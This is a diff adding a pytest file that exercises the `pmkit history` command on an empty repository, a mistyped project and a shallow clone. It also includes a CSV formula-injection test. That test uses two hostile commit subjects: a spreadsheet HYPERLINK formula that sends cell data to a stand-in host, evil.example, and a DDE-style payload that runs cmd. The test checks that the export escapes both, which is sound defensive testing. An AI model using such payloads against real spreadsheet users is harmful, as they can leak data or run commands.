@@ -1,0 +1,83 @@
+"""`pmkit history` attacked as a new user and an adversary would: an empty repository,
+formulas in commit subjects read by a spreadsheet, a mistyped project, a shallow clone."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import shutil
+from pathlib import Path
+
+from .conftest import MINIMAL, Repo, pmkit
+
+
+def test_an_empty_repository_has_an_empty_history_not_an_unknown_revision(tmp_path: Path) -> None:
+    repo = Repo(tmp_path / "repo")
+    shutil.copytree(MINIMAL, repo.root / "program")  # the files are there, nothing committed yet
+    table = pmkit(repo.root, "history")
+    assert table.returncode == 0, table.stderr
+    assert table.stdout == "(no commits)\n"
+    assert "unknown revision" not in table.stderr
+    document = json.loads(pmkit(repo.root, "history", "--format", "json").stdout)
+    assert document["rows"] == []
+    baselines = pmkit(repo.root, "history", "--baselines")
+    assert baselines.returncode == 0 and baselines.stdout == "(no baseline changes)\n"
+
+
+def test_the_site_of_an_uncommitted_program_says_there_is_no_commit_yet(tmp_path: Path) -> None:
+    from pmkit.app.site.data import load_history
+
+    repo = Repo(tmp_path / "repo")
+    shutil.copytree(MINIMAL, repo.root / "program")
+    data = load_history(repo.root / "program", use_cache=False)
+    assert data.rows == [] and data.reason is not None
+    assert "no commit yet" in data.reason and "not in a git repository" not in data.reason
+
+
+def test_a_subject_a_spreadsheet_would_run_is_written_as_text(repo: Repo) -> None:
+    """A commit subject (or author) is anyone's text: in the csv a cell that a spreadsheet
+    reads as a formula (=, +, -, @, tab, CR first) is written with a leading apostrophe."""
+    subject = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    repo.edit("program/projects/payroll.yaml", "progress: 50", "progress: 55")
+    repo.commit(subject, "2026-06-01T12:00:00+00:00")
+    repo.edit("program/projects/payroll.yaml", "progress: 55", "progress: 56")
+    repo.commit("@SUM(1+1)*cmd|' /C calc'!A0", "2026-06-02T12:00:00+00:00")
+    done = pmkit(repo.root, "history", "--format", "csv")
+    assert done.returncode == 0, done.stderr
+    rows = list(csv.DictReader(io.StringIO(done.stdout)))
+    assert [r["subject"] for r in rows] == ["first", "'" + subject, "'@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert not any(r[key].startswith(("=", "+", "-", "@")) for r in rows for key in ("subject", "author", "note"))
+    # numbers stay numbers (a negative funding gap is not text)
+    assert rows[1]["funding_gap"] == "-10000.00"
+    # json keeps the subject as it is
+    document = json.loads(pmkit(repo.root, "history", "--format", "json").stdout)
+    assert document["rows"][1]["subject"] == subject
+
+
+def test_a_mistyped_project_is_refused_not_a_table_of_dashes(repo: Repo) -> None:
+    repo.edit("program/projects/payroll.yaml", "progress: 50", "progress: 55")
+    repo.commit("June", "2026-06-01T12:00:00+00:00")
+    done = pmkit(repo.root, "history", "--project", "payrol")
+    assert done.returncode == 2, done.stdout
+    assert "payrol" in done.stderr and "infra, payroll" in done.stderr
+    # a project that exists in some commits only is fine: the others say so in their note
+    repo.git("rm", "-q", "program/projects/infra.yaml")
+    repo.edit("program/projects/payroll.yaml", "    depends_on: [build, infra/network]\n", "")
+    repo.edit("program/staff/bob.yaml", "project: infra", "project: payroll")
+    repo.commit("drop infra", "2026-06-02T12:00:00+00:00")
+    rows = json.loads(pmkit(repo.root, "history", "--project", "infra", "--format", "json").stdout)["rows"]
+    assert [r["progress"] is not None for r in rows[:2]] == [True, True]
+
+
+def test_a_shallow_clone_says_its_history_is_cut(repo: Repo, tmp_path: Path) -> None:
+    repo.edit("program/projects/payroll.yaml", "progress: 50", "progress: 55")
+    repo.commit("June", "2026-06-01T12:00:00+00:00")
+    clone = tmp_path / "clone"
+    repo.git("clone", "-q", "--depth", "1", f"file://{repo.root}", str(clone))
+    done = pmkit(clone, "history", "--format", "json")
+    assert done.returncode == 0, done.stderr
+    assert len(json.loads(done.stdout)["rows"]) == 1
+    assert "shallow clone" in done.stderr and "git fetch --unshallow" in done.stderr
+    # a full repository says nothing of the kind
+    assert "shallow" not in pmkit(repo.root, "history").stderr
